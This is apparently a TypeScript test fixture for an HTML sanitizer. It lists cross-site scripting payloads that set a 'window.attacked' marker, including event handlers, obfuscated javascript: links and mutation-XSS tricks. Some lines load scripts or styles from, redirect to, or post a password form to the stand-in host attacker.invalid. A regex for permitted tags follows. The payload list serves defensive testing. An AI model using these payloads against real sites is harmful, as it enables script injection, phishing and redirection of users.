/**
 * Rich texts that must do nothing: held against the cleaning of the server and of the browser alike. Each would set
 * `window.attacked`, load something, or lead where no link may lead.
 */
export const richTextAttacks: readonly string[] = [
  '<script>window.attacked = 1</script>',
  '<SCRIPT SRC=//attacker.invalid/x.js></SCRIPT>',
  '<img src=x onerror="window.attacked = 2">',
  '<svg onload="window.attacked = 3"><path/></svg>',
  '<svg><script>window.attacked = 4</script></svg>',
  '<p onclick="window.attacked = 5" onmouseover="window.attacked = 6" style="position:fixed;inset:0">text</p>',
  '<a href="javascript:window.attacked = 7">link</a>',
  '<a href="JaVaScRiPt&colon;window.attacked = 8">link</a>',
  '<a href="java&#10;script:window.attacked = 9">link</a>',
  '<a href="&#1;javascript:window.attacked = 10">link</a>',
  '<a href="data:text/html,<script>window.attacked = 11</script>">link</a>',
  '<a href="vbscript:x">link</a>',
  '<a href="//attacker.invalid/">link</a>',
  '<a href="/\\attacker.invalid/">link</a>',
  '<iframe src="javascript:window.attacked = 12"></iframe>',
  '<iframe srcdoc="<script>parent.attacked = 13</script>"></iframe>',
  '<object data="data:text/html,<script>window.attacked = 14</script>"></object>',
  '<embed src="//attacker.invalid/x">',
  '<form action="//attacker.invalid/"><input name="password"><button>Log in</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.attacked=15&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.attacked=16>"></noscript>',
  '<style>@import "//attacker.invalid/x.css"; body { display: none }</style>',
  '<link rel="stylesheet" href="//attacker.invalid/x.css">',
  '<meta http-equiv="refresh" content="0;url=//attacker.invalid/">',
  '<base href="//attacker.invalid/">',
  '<video autoplay onplay="window.attacked = 17" src="/x"></video>',
  '<details open ontoggle="window.attacked = 18"><summary>more</summary></details>',
  '<template><script>window.attacked = 19</script></template>',
  '<<script>script>window.attacked = 20<</script>/script>',
  '<p id="main" name="root" class="page">text</p>',
  '<!--><img src=x onerror=window.attacked=21>-->',
  '<xmp><img src=x onerror=window.attacked=22></xmp>',
];

/** What is left of a text is this and nothing else: plain tags without attributes, links with the three that are allowed. */
export const harmlessTag =
  /^<(?:\/?(?:p|br|strong|b|em|i|u|ul|ol|li|h3|h4|a|blockquote)(?: \/)?|a(?: (?:href="(?:https?:\/\/|mailto:|tel:|\/(?![/\\])|#)[^"<>]*"|title="[^"]*"|rel="noopener noreferrer"))+)>$/;
